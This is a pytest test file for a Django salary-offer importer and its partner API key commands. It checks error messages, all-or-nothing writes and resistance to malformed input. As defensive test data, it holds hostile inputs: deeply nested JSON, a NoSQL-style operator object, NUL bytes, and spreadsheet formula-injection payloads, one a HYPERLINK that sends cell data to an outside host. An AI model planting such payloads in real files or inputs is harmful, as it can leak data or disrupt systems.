"""import_offers as an operator runs it: exit codes, messages, and what is in the database."""

import csv
import datetime
import io
import json
import tracemalloc
from io import StringIO

import pytest
from django.core.management import CommandError, call_command
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rest_framework_api_key.models import APIKey

from salaries.factories import OfferFactory, SpecializationFactory, TechnologyFactory
from salaries.importer import writing
from salaries.models import (
    Candidate,
    Offer,
    OfferTechnology,
    Partner,
    PartnerAPIKey,
    SalaryStat,
    Specialization,
    Technology,
)

pytestmark = pytest.mark.django_db

HEADER = "offer_id,candidate_id,offered_on,specialization,technologies,salary,seniority"
GOOD_ROWS = [
    "o1,c1,2024-01-10,back-end,python;flask,7000,senior",
    "o2,c1,2024-02-10,back-end,python;django,6500,middle",
    "o3,c2,2023-03-10,front-end,react,5000,junior",
]


def write(tmp_path, rows, name="offers.csv", header=HEADER):
    path = tmp_path / name
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


def run(*args, stdin=None, monkeypatch=None):
    out, err = StringIO(), StringIO()
    if stdin is not None:
        monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(stdin.encode())))
    try:
        call_command("import_offers", *map(str, args), stdout=out, stderr=err)
    except CommandError as error:
        return 1, out.getvalue(), err.getvalue() + str(error)
    return 0, out.getvalue(), err.getvalue()


def snapshot():
    return {
        model.__name__: model.objects.count()
        for model in (Offer, OfferTechnology, Candidate, Specialization, Technology)
    }


def test_a_good_file_is_imported_and_summarised(tmp_path):
    code, out, _ = run(write(tmp_path, GOOD_ROWS))
    assert code == 0
    assert "Read 3 rows: 3 created, 0 updated, 0 rejected" in out
    assert "New specializations: back-end, front-end" in out
    assert "New technologies: django, flask, python, react" in out
    assert snapshot() == {
        "Offer": 3,
        "OfferTechnology": 5,
        "Candidate": 2,
        "Specialization": 2,
        "Technology": 4,
    }
    assert Specialization.objects.get(slug="back-end").name == "Back End"


BAD_ROWS = [
    ("o9,c9,2024-01-10,back-end,flask,7k,", "salary"),
    ("o9,c9,2024-01-10,back-end,flask,,", "salary"),
    ("o9,,2024-01-10,back-end,flask,100,", "candidate_id"),
    ("o9,c9,2099-01-10,back-end,flask,100,", "offered_on"),
    ("o9,c9,2024-01-10,all,flask,100,", "specialization"),
    ("o9,c9,2024-01-10,back-end,;;,100,", "technologies"),
    ("o9,c9,2024-01-10,back-end,flask,100,lead", "seniority"),
    ("o1,c9,2024-01-10,back-end,flask,100,", "offer_id"),  # o1 appears on line 2 already
]


@pytest.mark.parametrize(("bad", "field"), BAD_ROWS)
def test_one_bad_row_writes_nothing_and_says_where(tmp_path, bad, field):
    # A new specialization in a valid row before the bad one must not be created either.
    rows = [*GOOD_ROWS, "o8,c8,2024-01-10,data-science,pandas,6000,", bad]
    code, _, err = run(write(tmp_path, rows))
    assert code == 1
    assert f"line {len(rows) + 1}: {field}:" in err
    assert "nothing was written" in err
    assert snapshot() == dict.fromkeys(snapshot(), 0)


def test_duplicate_offer_id_names_both_lines(tmp_path):
    code, _, err = run(write(tmp_path, [*GOOD_ROWS, GOOD_ROWS[0]]))
    assert code == 1
    assert 'line 5: offer_id: "o1" already appears on line 2' in err


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "the file is empty"),
        (b"offer_id,salary\n1,2\n", "lacks required columns"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00", "line 1: cannot read the header: not UTF-8 text"),
        (b"\x00\x00\x00\x18ftypmp42", "NUL bytes"),
        (HEADER.encode() + b"\no1,c1,2024-01-01,qa,x,1,\xe9\n", "not UTF-8"),
    ],
)
def test_bad_files_give_a_clear_error_and_write_nothing(tmp_path, content, message):
    path = tmp_path / "offers.csv"
    path.write_bytes(content)
    code, _, err = run(path)
    assert code == 1
    assert message in err and "Traceback" not in err
    assert Offer.objects.count() == 0


def test_missing_file_and_unknown_format(tmp_path):
    assert "no such file" in run(tmp_path / "nope.csv")[2]
    assert "cannot tell the format" in run(tmp_path / "offers.txt")[2]


def test_skip_invalid_keeps_good_rows_and_writes_rejects(tmp_path):
    path = write(tmp_path, [GOOD_ROWS[0], "o9,c9,2024-01-10,back-end,flask,7k,", GOOD_ROWS[2]])
    code, out, _ = run(path, "--skip-invalid")
    assert code == 0
    assert "2 created, 0 updated, 1 rejected" in out
    assert set(Offer.objects.values_list("offer_id", flat=True)) == {"o1", "o3"}
    with (tmp_path / "offers.rejects.csv").open(newline="") as handle:
        rejects = list(csv.DictReader(handle))
    assert rejects == [
        {
            "line": "3",
            "error": 'salary: must be a whole number from 1 to 100000, got "7k"',
            "offer_id": "o9",
            "candidate_id": "c9",
            "offered_on": "2024-01-10",
            "specialization": "back-end",
            "technologies": "flask",
            "salary": "7k",
            "seniority": "",
        }
    ]


def test_dry_run_reports_and_writes_nothing(tmp_path):
    code, out, _ = run(write(tmp_path, GOOD_ROWS), "--dry-run")
    assert code == 0
    assert "3 created" in out and "nothing was written" in out
    assert Offer.objects.count() == 0 and Specialization.objects.count() == 0
    code, _, err = run(write(tmp_path, [*GOOD_ROWS, "o9,c9,x,qa,x,1,"]), "--dry-run")
    assert code == 1 and "line 5: offered_on" in err


def test_reimport_updates_instead_of_duplicating(tmp_path):
    run(write(tmp_path, GOOD_ROWS))
    changed = ["o1,c1,2024-01-10,back-end,flask;fastapi,7500,senior", *GOOD_ROWS[1:]]
    code, out, _ = run(write(tmp_path, changed, name="again.csv"))
    assert code == 0 and "0 created, 3 updated" in out
    assert Offer.objects.count() == 3
    offer = Offer.objects.get(offer_id="o1")
    assert offer.salary == 7500
    assert sorted(offer.technologies.values_list("slug", flat=True)) == ["fastapi", "flask"]
    first_import = offer.imported_at
    run(write(tmp_path, changed, name="again.csv"))
    assert Offer.objects.get(offer_id="o1").imported_at == first_import


def test_standard_input_with_format_and_rejects(tmp_path, monkeypatch):
    lines = [
        json.dumps(
            {
                "offer_id": "j1",
                "candidate_id": "c1",
                "offered_on": "2024-01-01",
                "specialization": "qa",
                "technologies": "selenium",
                "salary": 4000,
            }
        ),
        '{"offer_id": "j2", "salary": 5000.0}',
    ]
    stdin = "\n".join(lines) + "\n"
    code, _, err = run(
        "-", "--format", "jsonl", "--skip-invalid", stdin=stdin, monkeypatch=monkeypatch
    )
    assert code == 1 and "--rejects FILE is required" in err
    rejects = tmp_path / "rejects.csv"
    code, out, _ = run(
        "-", "--format", "jsonl", "--skip-invalid", "--rejects", rejects,
        stdin=stdin, monkeypatch=monkeypatch,
    )  # fmt: skip
    assert code == 0 and "1 created, 0 updated, 1 rejected" in out
    assert "line 2" not in rejects.read_text().splitlines()[0]
    assert rejects.read_text().splitlines()[1].startswith("2,")


def test_a_crash_half_way_leaves_nothing(tmp_path, monkeypatch):
    rows = [f"o{i},c{i},2024-01-10,back-end,flask,{1000 + i}," for i in range(10)]
    calls = {"n": 0}
    original = writing.OfferWriter.write

    def write_then_crash(self, batch):
        calls["n"] += 1
        if calls["n"] == 2:
            raise KeyboardInterrupt
        original(self, batch)

    monkeypatch.setattr(writing.OfferWriter, "write", write_then_crash)
    with pytest.raises(KeyboardInterrupt):
        call_command("import_offers", str(write(tmp_path, rows)), "--batch-size", "3",
                     stdout=StringIO(), stderr=StringIO())  # fmt: skip
    assert snapshot() == dict.fromkeys(snapshot(), 0)


# --- compute_salary_stats and create_partner_key ---


def run_command(*args) -> str:
    out = StringIO()
    call_command(*args, stdout=out)
    return out.getvalue()


def test_compute_salary_stats_reports_what_it_published():
    spec, tech = SpecializationFactory(slug="back-end"), TechnologyFactory(slug="flask")
    OfferFactory(specialization=spec, technologies=[tech])
    OfferFactory(specialization=spec, technologies=[tech], offered_on=datetime.date(2023, 5, 1))
    out = run_command("compute_salary_stats")
    assert "Published 8 slices over 2 offers" in out
    assert "years: 2023, 2024" in out
    assert SalaryStat.objects.count() == 8


def test_compute_salary_stats_for_one_year():
    spec, tech = SpecializationFactory(slug="back-end"), TechnologyFactory(slug="flask")
    OfferFactory(specialization=spec, technologies=[tech])
    OfferFactory(specialization=spec, technologies=[tech], offered_on=datetime.date(2023, 5, 1))
    out = run_command("compute_salary_stats", "--year", "2023")
    assert "(year 2023; years: 2023)" in out
    assert set(SalaryStat.objects.values_list("year", flat=True)) == {2023}


def test_compute_salary_stats_without_offers_says_so():
    assert "No offers for all years" in run_command("compute_salary_stats")


@pytest.mark.parametrize("year", ["1999", "2101"])
def test_compute_salary_stats_rejects_an_impossible_year(year):
    with pytest.raises(CommandError, match="--year must be between 2000 and 2100"):
        run_command("compute_salary_stats", "--year", year)


def test_create_partner_key_prints_a_working_key_alone_on_the_last_line():
    out = run_command("create_partner_key", "Acme Jobs", "--rate", "10/minute")
    key = out.strip().splitlines()[-1]
    assert " " not in key
    api_key = PartnerAPIKey.objects.get_from_key(key)
    assert api_key.partner.name == "Acme Jobs"
    assert api_key.partner.rate == "10/minute"
    assert PartnerAPIKey.objects.is_valid(key)
    assert not APIKey.objects.filter(prefix=api_key.prefix).exists()
    assert key not in str(PartnerAPIKey.objects.values_list("hashed_key", flat=True)[0])


def test_a_second_key_for_the_same_partner_keeps_the_first():
    first = run_command("create_partner_key", "Acme Jobs").strip().splitlines()[-1]
    second = run_command("create_partner_key", "Acme Jobs").strip().splitlines()[-1]
    assert first != second
    assert Partner.objects.count() == 1
    assert PartnerAPIKey.objects.is_valid(first) and PartnerAPIKey.objects.is_valid(second)
    assert Partner.objects.get().rate == "1000/hour"


@pytest.mark.parametrize("rate", ["5k/hour", "10/week", "0/hour", "ten/minute", "100"])
def test_create_partner_key_rejects_a_bad_rate_and_creates_nothing(rate):
    with pytest.raises(CommandError, match="rate must look like 1000/hour"):
        run_command("create_partner_key", "Acme Jobs", "--rate", rate)
    assert not Partner.objects.exists()


def test_create_partner_key_needs_a_name():
    with pytest.raises(CommandError, match="must not be empty"):
        run_command("create_partner_key", "   ")


def test_a_new_partner_gets_the_rate_from_settings(settings):
    settings.API_PARTNER_RATE = "250/day"
    run_command("create_partner_key", "Newsroom")
    assert Partner.objects.get().rate == "250/day"


def test_create_partner_key_with_an_expiry_date():
    out = run_command("create_partner_key", "Acme Jobs", "--expires", "2099-06-30")
    key = out.strip().splitlines()[-1]
    api_key = PartnerAPIKey.objects.get_from_key(key)
    assert api_key.expiry_date == datetime.datetime(2099, 6, 30, tzinfo=datetime.UTC)
    assert "expires 2099-06-30 00:00 UTC" in out


@pytest.mark.parametrize(
    ("expires", "message"),
    [("30/06/2099", "--expires must be a date"), ("2001-01-01", "must be in the future")],
)
def test_create_partner_key_rejects_a_bad_expiry(expires, message):
    with pytest.raises(CommandError, match=message):
        run_command("create_partner_key", "Acme Jobs", "--expires", expires)
    assert not PartnerAPIKey.objects.exists()


# --- revoke_partner_key ---


def test_revoke_partner_key_by_prefix_or_whole_key():
    first = run_command("create_partner_key", "Acme Jobs").strip().splitlines()[-1]
    second = run_command("create_partner_key", "Acme Jobs").strip().splitlines()[-1]
    out = run_command("revoke_partner_key", first.partition(".")[0])
    assert f"Revoked {first.partition('.')[0]}… (Acme Jobs #1, Acme Jobs)." in out
    assert not PartnerAPIKey.objects.is_valid(first)
    assert PartnerAPIKey.objects.is_valid(second)
    run_command("revoke_partner_key", second)
    assert not PartnerAPIKey.objects.is_valid(second)
    assert "already revoked" in run_command("revoke_partner_key", second)


def test_revoke_every_key_of_a_partner():
    keys = [run_command("create_partner_key", "Acme Jobs").strip().splitlines()[-1] for _ in "ab"]
    other = run_command("create_partner_key", "Other Board").strip().splitlines()[-1]
    out = run_command("revoke_partner_key", "--partner", "Acme Jobs")
    assert out.count("Revoked") == 2
    assert not any(PartnerAPIKey.objects.is_valid(key) for key in keys)
    assert PartnerAPIKey.objects.is_valid(other)


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["ZZZZZZZZ"], "no API key with the prefix ZZZZZZZZ"),
        (["--partner", "Nobody"], 'no partner named "Nobody"'),
    ],
)
def test_revoke_partner_key_says_what_matched_nothing_and_revokes_nothing(args, message):
    key = run_command("create_partner_key", "Acme Jobs").strip().splitlines()[-1]
    with pytest.raises(CommandError, match=message):
        run_command("revoke_partner_key", key.partition(".")[0], *args)
    assert PartnerAPIKey.objects.is_valid(key)


def test_revoke_partner_key_needs_something_to_revoke():
    with pytest.raises(CommandError, match="name at least one key prefix or a partner"):
        run_command("revoke_partner_key")


# --- Hostile files: a row error, or a clear stop that says what was committed ---


def jsonl_row(offer_id, **changes) -> bytes:
    record = {
        "offer_id": offer_id,
        "candidate_id": "c1",
        "offered_on": "2024-01-10",
        "specialization": "back-end",
        "technologies": "python",
        "salary": 5000,
        **changes,
    }
    return json.dumps(record).encode()


def csv_row(offer_id: str) -> bytes:
    return f"{offer_id},c1,2024-01-10,back-end,python,5000,".encode()


def offer_ids():
    return sorted(Offer.objects.values_list("offer_id", flat=True))


def read_rejects(path):
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


HOSTILE_LINES = [
    pytest.param("jsonl", b"[" * 20_000 + b"]" * 20_000, "json: not valid here", id="deep-json"),
    pytest.param("jsonl", b'{"offer_id": {"a": ' + b"[" * 20_000 + b"]" * 20_000 + b"}}",
                 "json: not valid here", id="deep-json-value"),
    pytest.param("jsonl", jsonl_row("x").replace(b"5000", b"1" + b"0" * 5000),
                 "salary: must be a whole number", id="5000-digit-salary"),
    pytest.param("jsonl", jsonl_row("x", experience_years=1).replace(b": 1}", b": 1" + b"0" * 5000
                                                                    + b"}"),
                 "experience_years: must be a number of years", id="5000-digit-experience"),
    pytest.param("jsonl", b'{"offer_id": 1' + b"0" * 5000 + b"}", "offer_id: must be at most 64",
                 id="5000-digit-offer-id"),
    pytest.param("jsonl", jsonl_row({"$gt": ""}),
                 "offer_id: must be a string or a number, got a JSON object", id="object-id"),
    pytest.param("jsonl", jsonl_row("x", candidate_id=["c1"]),
                 "candidate_id: must be a string or a number, got a JSON array", id="array-id"),
    pytest.param("jsonl", jsonl_row("x", salary="١٢٣"), "salary: must be a whole number",
                 id="arabic-digits"),
    pytest.param("jsonl", jsonl_row("x").replace(b"5000", b"NaN"), "NaN is not a JSON number",
                 id="nan"),
    pytest.param("jsonl", jsonl_row("x\x00y"), "offer_id: must not contain NUL",
                 id="escaped-nul"),
    pytest.param("jsonl", jsonl_row("x").replace(b"c1", b"c\x001"), "Invalid control character",
                 id="raw-nul-json"),
    pytest.param("jsonl", jsonl_row("x").replace(b"c1", b"c\xe91"), "encoding: not UTF-8 text",
                 id="latin-1-json"),
    pytest.param("csv", csv_row("x").replace(b"c1", b"c\x001"),
                 "candidate_id: must not contain NUL", id="nul-csv"),
    pytest.param("csv", csv_row("x").replace(b"c1", b"c\xe91"), "encoding: not UTF-8 text",
                 id="latin-1-csv"),
    pytest.param("csv", b"\xef\xbb\xbf" + csv_row("x"), "offer_id: must not contain a byte order",
                 id="bom-mid-file"),
    pytest.param("csv", csv_row("x").replace(b"5000", b"1" * 5000),
                 "salary: must be a whole number", id="5000-digit-csv"),
]  # fmt: skip


def hostile_file(tmp_path, fmt, bad):
    """Two good rows, the bad line, two good rows: 4 valid rows, the bad one on line 3
    of a JSON Lines file, line 4 of a CSV file."""
    make = jsonl_row if fmt == "jsonl" else csv_row
    lines = [make("o1"), make("o2"), bad, make("o3"), make("o4")]
    if fmt == "csv":
        lines.insert(0, HEADER.encode())
    path = tmp_path / f"offers.{fmt}"
    path.write_bytes(b"\n".join(lines) + b"\n")
    return path, 3 if fmt == "jsonl" else 4


@pytest.mark.parametrize(("fmt", "bad", "reason"), HOSTILE_LINES)
def test_a_hostile_line_is_a_row_error_and_the_valid_rows_are_imported(tmp_path, fmt, bad, reason):
    path, line = hostile_file(tmp_path, fmt, bad)
    code, out, err = run(path, "--skip-invalid", "--batch-size", "1")
    assert code == 0, err
    assert "Traceback" not in err
    assert f"line {line}: " in err and reason in err
    assert "4 created, 0 updated, 1 rejected" in out
    assert offer_ids() == ["o1", "o2", "o3", "o4"]
    rejects = read_rejects(tmp_path / "offers.rejects.csv")
    assert [row[0] for row in rejects] == ["line", str(line)]
    assert reason in rejects[1][1]


@pytest.mark.parametrize(("fmt", "bad", "reason"), HOSTILE_LINES)
def test_a_hostile_line_writes_nothing_by_default(tmp_path, fmt, bad, reason):
    path, line = hostile_file(tmp_path, fmt, bad)
    code, out, err = run(path, "--batch-size", "1")
    assert code == 1
    assert f"line {line}: " in err and reason in err
    assert "1 invalid rows; nothing was written" in err
    assert "Read 5 rows: 4 valid, 1 invalid" in out
    assert snapshot() == dict.fromkeys(snapshot(), 0)


def test_a_repeated_header_column_is_an_error_naming_it(tmp_path):
    path = write(tmp_path, ["o1,c1,2024-01-10,back-end,python,5000,senior,6000"],
                 header=HEADER + ",salary")  # fmt: skip
    code, _, err = run(path)
    assert code == 1
    assert 'line 1: the header names "salary" 2 times (columns 6, 8)' in err
    assert Offer.objects.count() == 0


def test_a_huge_line_is_refused_unread_with_flat_memory(tmp_path):
    """A 50 MB line costs one row, not the file, and is never held whole: the peak of
    memory allocated during the import stays far below the line's size."""
    path = tmp_path / "offers.csv"
    with path.open("wb") as handle:
        handle.write(HEADER.encode() + b"\n" + csv_row("o1") + b"\n")
        handle.write(b"o2,c1,2024-01-10,back-end,python,")
        for _ in range(50):
            handle.write(b"9" * 1_000_000)
        handle.write(b"\n" + csv_row("o3") + b"\n")
    tracemalloc.start()
    try:
        code, out, err = run(path, "--skip-invalid")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert code == 0
    assert "line 3: length: the line is longer than 65,536 bytes" in err
    assert offer_ids() == ["o1", "o3"]
    assert peak < 5_000_000


def test_a_huge_json_line_is_refused_unread(tmp_path):
    path = tmp_path / "offers.jsonl"
    with path.open("wb") as handle:
        handle.write(jsonl_row("o1") + b'\n{"offer_id": "')
        for _ in range(20):
            handle.write(b"x" * 1_000_000)
        handle.write(b'"}\n' + jsonl_row("o3") + b"\n")
    code, _, err = run(path, "--skip-invalid")
    assert code == 0 and "line 2: length: the line is longer than 65,536 bytes" in err
    assert offer_ids() == ["o1", "o3"]


class FailingStream(io.RawIOBase):
    """Standard input whose reading fails (a disk or pipe error) after some lines."""

    def __init__(self, data: bytes, fail_after: int):
        self.lines, self.fail_after = data.splitlines(keepends=True), fail_after

    def readable(self):
        return True

    def readline(self, size=-1):
        if not self.lines:
            return b""
        if self.fail_after == 0:
            raise OSError(5, "Input/output error")
        self.fail_after -= 1
        return self.lines.pop(0)


@pytest.mark.parametrize("skip", [True, False])
def test_a_read_error_half_way_says_exactly_what_was_committed(tmp_path, monkeypatch, skip):
    data = b"\n".join(jsonl_row(f"o{i}") for i in range(1, 6)) + b"\n"
    stdin = type("Stdin", (), {"buffer": FailingStream(data, fail_after=3)})()
    monkeypatch.setattr("sys.stdin", stdin)
    args = ["-", "--format", "jsonl", "--batch-size", "2"]
    if skip:
        args += ["--skip-invalid", "--rejects", tmp_path / "rejects.csv"]
    code, _, err = run(*args)
    assert code == 1 and "Traceback" not in err
    assert "-: line 4: cannot read the file (Input/output error)" in err
    if skip:
        assert (
            "2 rows were committed before the stop, in 1 batch holding every valid row up to "
            "line 2; nothing after that line was written (importing the file again is safe)"
        ) in err
        assert offer_ids() == ["o1", "o2"]
    else:
        assert err.endswith("; nothing was written")
        assert Offer.objects.count() == 0


def test_a_rejects_file_that_cannot_be_written_stops_with_the_truth(tmp_path, monkeypatch):
    path, _ = hostile_file(tmp_path, "jsonl", b"{broken")

    def full_disk(self, row):
        if row[0] != "line":
            raise OSError(28, "No space left on device")

    monkeypatch.setattr("defusedcsv.csv._ProxyWriter.writerow", full_disk)
    code, _, err = run(path, "--skip-invalid", "--batch-size", "1")
    assert code == 1
    assert "cannot write the rejects file" in err and "No space left on device" in err
    assert "2 rows were committed before the stop, in 2 batches" in err
    assert offer_ids() == ["o1", "o2"]


def test_the_rejects_file_is_safe_to_open_in_a_spreadsheet(tmp_path):
    formulas = [
        '=HYPERLINK("http://example.com/?"&A1,"Click")',
        "+1",
        "-2",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "-2+3",
    ]
    path = tmp_path / "offers.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER.split(","))
        for i, formula in enumerate(formulas):
            # A formula as the offer id and as the bad salary; the candidate is plain.
            writer.writerow([formula, f"c{i}", "2024-01-10", "back-end", "python", formula, ""])
    code, _, _ = run(path, "--skip-invalid")
    assert code == 0
    rejects = read_rejects(tmp_path / "offers.rejects.csv")
    assert [row[2] for row in rejects[1:]] == [
        '\'=HYPERLINK("http://example.com/?"&A1,"Click")',
        "'+1",
        "-2",  # a plain number: a spreadsheet shows -2 and runs nothing
        "'@SUM(1)",
        "'\t=1+1",
        "'\r=1+1",
        "'-2+3",
    ]
    assert [row[2] for row in rejects[1:]] == [row[7] for row in rejects[1:]]
    assert [row[3] for row in rejects[1:]] == [f"c{i}" for i in range(7)]
    assert all(row[1].startswith("salary: ") for row in rejects[1:])


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("offers.jsonl", b"", "the file holds no rows; nothing was written"),
        ("offers.jsonl", b"\n\n  \n", "the file holds no rows; nothing was written"),
        ("offers.csv", (HEADER + "\n").encode(), "the file holds no rows; nothing was written"),
        ("offers.csv", (HEADER + "\r\n\r\n").encode(), "the file holds no rows"),
        ("offers.csv", (HEADER + "\n" + "o1,c1,2024-01-10,qa,x,1,").replace("\n", "\r").encode(),
         "line 1: the lines end in a carriage return alone"),
        ("offers.csv", b"", "the file is empty: expected a header row"),
        ("offers.csv", b"\xef\xbb\xbf\n", "the header lacks required columns"),
    ],
)  # fmt: skip
def test_files_without_rows_are_a_clear_error(tmp_path, name, content, message):
    path = tmp_path / name
    path.write_bytes(content)
    for args in ([], ["--skip-invalid"], ["--dry-run"]):
        code, _, err = run(path, *args)
        assert code == 1 and message in err and "Traceback" not in err
    assert snapshot() == dict.fromkeys(snapshot(), 0)


def test_paths_that_are_not_readable_files(tmp_path, monkeypatch):
    (tmp_path / "folder.csv").mkdir()
    assert "folder.csv: is a directory, not a file" in run(tmp_path / "folder.csv")[2]
    code, _, err = run("-")
    assert code == 1 and "reading standard input (-) needs --format csv or --format jsonl" in err
    locked = write(tmp_path, GOOD_ROWS, name="locked.csv")

    def refuse(path, mode="r", *args, **kwargs):
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr("salaries.management.commands.import_offers.open", refuse, raising=False)
    code, _, err = run(locked)
    assert code == 1 and "locked.csv: cannot read it (Permission denied)" in err


def test_a_failed_default_import_does_not_claim_rows_were_created(tmp_path):
    code, out, _ = run(write(tmp_path, [*GOOD_ROWS, "o9,c9,2024-01-10,new-role,flask,7k,"]))
    assert code == 1
    assert "Read 4 rows: 3 valid, 1 invalid" in out
    assert "created" not in out and "New specializations" not in out


# --- Property: arbitrary bytes give row errors or a clean stop, never a traceback ---

PIECES = [
    csv_row("p1"), jsonl_row("p1"), HEADER.encode(), b"\x00", b"\xef\xbb\xbf", b"\r", b"\r\n",
    b"\xff", b"\xc3", b",", b'"', b";", b"\\u0000", b"\\ud800", b"[" * 2000, b"{" * 2000,
    b"9" * 5000, b"NaN", b"-Infinity", b"1e400", b'{"offer_id": {}}', b'{"salary": true}',
    b"\xd9\xa1\xd9\xa2", b"-2-3", b"all", b"=1+1", b'{"offer_id": "x", "offer_id": "y"}',
]  # fmt: skip
WHOLE_LINES = [
    b"[" * 20_000, b'{"offer_id": ' + b"[" * 5000, jsonl_row("w1").replace(b"5000", b"1" * 5000),
    csv_row("w2").replace(b"5000", b"1" * 5000), jsonl_row({"a": 1}), jsonl_row(["x"]),
    jsonl_row("w3").replace(b"c1", b"c\x001"), csv_row("w4").replace(b"c1", b"c\x001"),
    csv_row("w5").replace(b"c1", b"c\xe9"), jsonl_row("w6").replace(b"c1", b"c\xe9"),
    jsonl_row("w7", salary="\u0661\u0662"), b"x" * 70_000, HEADER.encode(),
]  # fmt: skip
line_bytes = st.one_of(
    st.sampled_from(WHOLE_LINES),
    st.lists(
        st.one_of(
            st.binary(max_size=20),
            st.text(max_size=20).map(lambda text: text.encode("utf-8", "surrogatepass")),
            st.sampled_from(PIECES),
        ),
        max_size=4,
    ).map(b"".join),
)
hostile_files = st.tuples(
    st.sampled_from(["csv", "jsonl"]),
    st.one_of(st.just(HEADER.encode()), line_bytes),  # the CSV header, usually intact
    st.lists(line_bytes, max_size=6),
    st.randoms(use_true_random=False),
)
BAD_ROW = {"csv": b"bad,c1,2024-01-10,back-end,python,7k,", "jsonl": b'{"salary": "7k"}'}


def hostile_bytes(fmt, header, lines, where) -> bytes:
    lines = list(lines)
    lines.insert(where.randint(0, len(lines)), BAD_ROW[fmt])  # never an all-valid file
    if fmt == "csv":
        lines.insert(0, header)
    return where.choice([b"\n", b"\r\n"]).join(lines) + where.choice([b"", b"\n"])


@settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(hostile_files)
def test_property_arbitrary_bytes_never_crash_and_never_write_by_default(tmp_path, case):
    fmt, header, lines, where = case
    path = tmp_path / f"offers.{fmt}"
    path.write_bytes(hostile_bytes(fmt, header, lines, where))
    code, _, err = run(path, "--batch-size", where.randint(1, 3))  # only CommandError is caught
    assert code == 1 and "Traceback" not in err
    assert "nothing was written" in err
    assert snapshot() == dict.fromkeys(snapshot(), 0)


@settings(
    max_examples=100,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(hostile_files)
def test_property_arbitrary_bytes_with_skip_invalid_give_row_errors(tmp_path, case):
    fmt, header, lines, where = case
    path = tmp_path / f"offers.{fmt}"
    path.write_bytes(hostile_bytes(fmt, header, lines, where))
    code, out, err = run(path, "--skip-invalid", "--batch-size", where.randint(1, 3))
    if code == 1:  # a header that cannot be read: a clean stop before any write
        assert fmt == "csv" and header != HEADER.encode()
        assert "nothing was written" in err and "committed" not in err
        return
    rejected = int(out.split(" rejected")[0].rsplit(" ", 1)[1].replace(",", ""))
    assert rejected >= 1
    assert len(read_rejects(tmp_path / "offers.rejects.csv")) == rejected + 1
